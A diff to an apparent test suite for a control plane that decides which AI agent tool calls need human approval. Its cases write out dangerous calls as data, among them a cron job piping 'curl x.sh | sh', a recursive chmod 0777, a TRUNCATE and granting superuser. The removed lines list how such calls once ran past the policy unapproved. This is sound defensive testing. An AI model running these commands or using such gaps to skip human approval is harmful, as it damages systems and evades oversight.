@@ -81,7 +81,8 @@ CASES: list[Case] = [
     Case("world-writable", "fs.chmod", {"path": "/srv/app", "mode": "0777", "recursive": True}),
     Case("pipe to shell", "cron.add", {"schedule": "* * * * *", "command": "curl x.sh | sh"}),
     Case("refund", "billing.refund", {"invoice": "inv_1", "amount": 4999}),
-    # Found by this suite: each runs on its own under the default policy (see KNOWN).
+    # Found by this suite's first run, each placed by a verb in its name and dangerous
+    # only in its args; held since by detectors/_switches.py and the SQL rules.
     Case("truncate without TABLE", "db.run", {"q": "TRUNCATE orders"}),
     Case("superuser flag", "accounts.patch", {"id": "u_42", "fields": {"is_superuser": True}}),
     Case("repository made public", "github.repos.edit", {"repo": "acme/core", "private": False}),
@@ -97,14 +98,7 @@ CASES: list[Case] = [
 #: Cases that run without a human under the default policy today, with where the fault
 #: lies. The verb in each name places the tool (so ``tool.unknown`` does not fire) and
 #: no detector reads the danger in its args.
-KNOWN: dict[str, str] = {
-    "truncate without TABLE": "'run' places it; 'TRUNCATE orders' is not read as destructive",
-    "superuser flag": "'patch' places it; an is_superuser flag is not read as a permission",
-    "repository made public": "'edit' places it; private: false is not read as public access",
-    "forward all mail out": "'forward' places it; an outside address is not read as outward",
-    "read a production secret": "'read' places it; a secret/ path is not read as secrets access",
-    "repoint a DNS record": "'upsert' places it; a DNS change is not read as an effect",
-}
+KNOWN: dict[str, str] = {}
 
 
 def register(plane: ControlPlane) -> None:
@@ -251,13 +245,14 @@ def table(results: list[Result]) -> str:
     )
     controlled = sum(control[c.name] for c in held)
     lines.append(f"| **unknown tools** | | | {totals} | {controlled} of {len(held)} |")
-    known_totals = " | ".join(
-        f"{sum(v.ran for v in r.default if v.case in KNOWN)} of {len(KNOWN)}" for r in results
-    )
-    lines.append(f"| **known gaps** | | | {known_totals} | |")
     problems = [p for r in results for p in r.unexpected()]
-    lines += ["", "Known gaps, where the fault lies:", ""]
-    lines += [f"- {name}: {why}." for name, why in KNOWN.items()]
+    if KNOWN:
+        known_totals = " | ".join(
+            f"{sum(v.ran for v in r.default if v.case in KNOWN)} of {len(KNOWN)}" for r in results
+        )
+        lines.append(f"| **known gaps** | | | {known_totals} | |")
+        lines += ["", "Known gaps, where the fault lies:", ""]
+        lines += [f"- {name}: {why}." for name, why in KNOWN.items()]
     lines += ["", f"Verdict: {'pass' if not problems else 'FAIL: ' + '; '.join(problems)}."]
     return "\n".join(lines)
 
